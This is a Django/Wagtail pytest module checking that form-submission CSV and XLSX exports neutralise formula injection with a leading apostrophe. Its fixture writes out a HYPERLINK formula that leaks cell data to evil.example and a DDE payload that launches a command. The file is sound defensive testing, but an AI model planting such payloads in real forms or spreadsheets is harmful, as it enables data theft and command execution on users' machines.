"""Exported form submissions are safe to open in a spreadsheet.

Whatever a visitor typed into a form ends up in the editors' CSV or XLSX file; a cell
that a spreadsheet would run as a formula gets a leading apostrophe, exactly as in
the registrations export.
"""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.contrib.forms.models import FormSubmission

from .factories import add_question_form

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'


@pytest.fixture
def exports_url(client, superuser, home):
    form_page = add_question_form(home)
    FormSubmission.objects.create(
        page=form_page,
        form_data={"naam": "@SUM(1+1)*cmd|' /C calc'!A0", "e_mail": "a@b.nl", "vraag": FORMULA},
    )
    client.force_login(superuser)
    return reverse("wagtailforms:list_submissions", args=[form_page.pk])


def test_csv_export_neutralises_formula_cells(client, exports_url):
    response = client.get(exports_url + "?export=csv")
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode("utf-8")
    header, row = list(csv.reader(io.StringIO(content)))
    assert "'" + FORMULA in row
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in row
    assert FORMULA not in row
    assert "a@b.nl" in row  # ordinary text stays as typed


def test_xlsx_export_neutralises_formula_cells(client, exports_url):
    response = client.get(exports_url + "?export=xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    values = [cell.value for cell in next(sheet.iter_rows(min_row=2, max_row=2))]
    assert "'" + FORMULA in values and FORMULA not in values
